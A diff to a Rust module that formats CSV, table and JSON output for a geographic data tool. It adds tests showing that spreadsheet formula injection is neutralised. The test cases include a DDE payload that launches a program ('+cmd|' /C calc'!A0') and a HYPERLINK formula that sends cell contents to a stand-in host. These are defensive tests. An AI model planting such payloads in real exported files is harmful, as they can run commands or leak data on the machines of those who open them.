@@ -457,7 +457,123 @@ pub fn fixed(v: f64, decimals: usize) -> String {
     }
 }
 
-/// Round for machine output (CSV/JSON): 6 significant decimals are plenty for km² and shares.
+/// Round for machine output (CSV/JSON): 6 decimals are plenty for km² and shares. Never
+/// "-0".
 pub fn round6(v: f64) -> f64 {
-    (v * 1e6).round() / 1e6
+    (v * 1e6).round() / 1e6 + 0.0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_numbers_are_not() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+                "'=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+            ("=1+2", "'=1+2"),
+            ("-2+3", "'-2+3"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("-1.5", "-1.5"),
+            ("+3", "+3"),
+            ("-", "-"),
+            ("E06000060", "E06000060"),
+            ("Ynys Môn", "Ynys Môn"),
+            ("", ""),
+        ];
+        for (raw, want) in cases {
+            assert_eq!(spreadsheet_safe(raw), want, "{raw:?}");
+            assert_eq!(Cell::text(raw).csv(true), want, "{raw:?}");
+            assert_eq!(Cell::text(raw).csv(false), raw, "raw CSV keeps {raw:?}");
+        }
+        // Numbers are never text: a negative measure stays a number.
+        assert_eq!(Cell::Num(-0.25).csv(true), "-0.25");
+        assert_eq!(Cell::Plain("-1 2".into()).csv(true), "-1 2");
+    }
+
+    #[test]
+    fn cells_in_each_format() {
+        let cases: [(Cell, &str, &str); 8] = [
+            (Cell::Num(1.23456789), "1.234568", "1.235"),
+            (Cell::Num(-0.0000001), "0", "0.000"),
+            (Cell::Opt(None), "", "-"),
+            (Cell::Opt(Some(0.5)), "0.5", "0.500"),
+            (Cell::Count(7), "7", "7"),
+            (Cell::YesNo(false), "no", "no"),
+            (Cell::Mark(true), "yes", "*"),
+            (Cell::Mark(false), "no", ""),
+        ];
+        for (cell, csv, table) in cases {
+            assert_eq!(cell.csv(true), csv, "{cell:?}");
+            assert_eq!(cell.table(), table, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn table_cells_escape_control_and_direction_characters() {
+        assert_eq!(Cell::text("a\nb").table(), "a\\u{a}b");
+        assert_eq!(Cell::text("x\r").table(), "x\\u{d}");
+        assert_eq!(Cell::text("abc\u{202e}def").table(), "abc\\u{202e}def");
+        assert_eq!(Cell::text("Ynys Môn").table(), "Ynys Môn");
+    }
+
+    #[derive(Serialize)]
+    struct Row {
+        code: String,
+        km2: f64,
+    }
+
+    #[derive(Serialize)]
+    struct Demo {
+        rows: Vec<Row>,
+    }
+
+    const COLUMNS: [Column<Row>; 2] = [
+        col("code", |r| Cell::text(&r.code)),
+        csv_col("km2", |r| Cell::Num(r.km2)),
+    ];
+
+    impl Render for Demo {
+        fn csv(&self, sink: &mut Csv<'_>) -> Result<()> {
+            sink.rows(&COLUMNS, &self.rows)
+        }
+        fn table(&self, w: &mut dyn Write) -> Result<()> {
+            write!(w, "{}", table_of(&COLUMNS, &self.rows))?;
+            Ok(())
+        }
+    }
+
+    #[test]
+    fn one_column_list_gives_csv_and_table() {
+        let demo = Demo {
+            rows: vec![
+                Row {
+                    code: "=A1".into(),
+                    km2: 1.0 / 3.0,
+                },
+                Row {
+                    code: "B".into(),
+                    km2: 2.0,
+                },
+            ],
+        };
+        let text = |format| {
+            let mut out = Vec::new();
+            render(&demo, Emit::new(format), &mut out).expect("renders");
+            String::from_utf8(out).expect("utf-8")
+        };
+        assert_eq!(text(Format::Csv), "code,km2\n'=A1,0.333333\nB,2\n");
+        // The table leaves out CSV-only columns.
+        assert_eq!(text(Format::Table), "code\n----\n=A1\nB\n");
+        assert_eq!(
+            text(Format::Json),
+            "{\n  \"rows\": [\n    {\n      \"code\": \"=A1\",\n      \"km2\": 0.3333333333333333\n    },\n    {\n      \"code\": \"B\",\n      \"km2\": 2.0\n    }\n  ]\n}\n"
+        );
+    }
 }
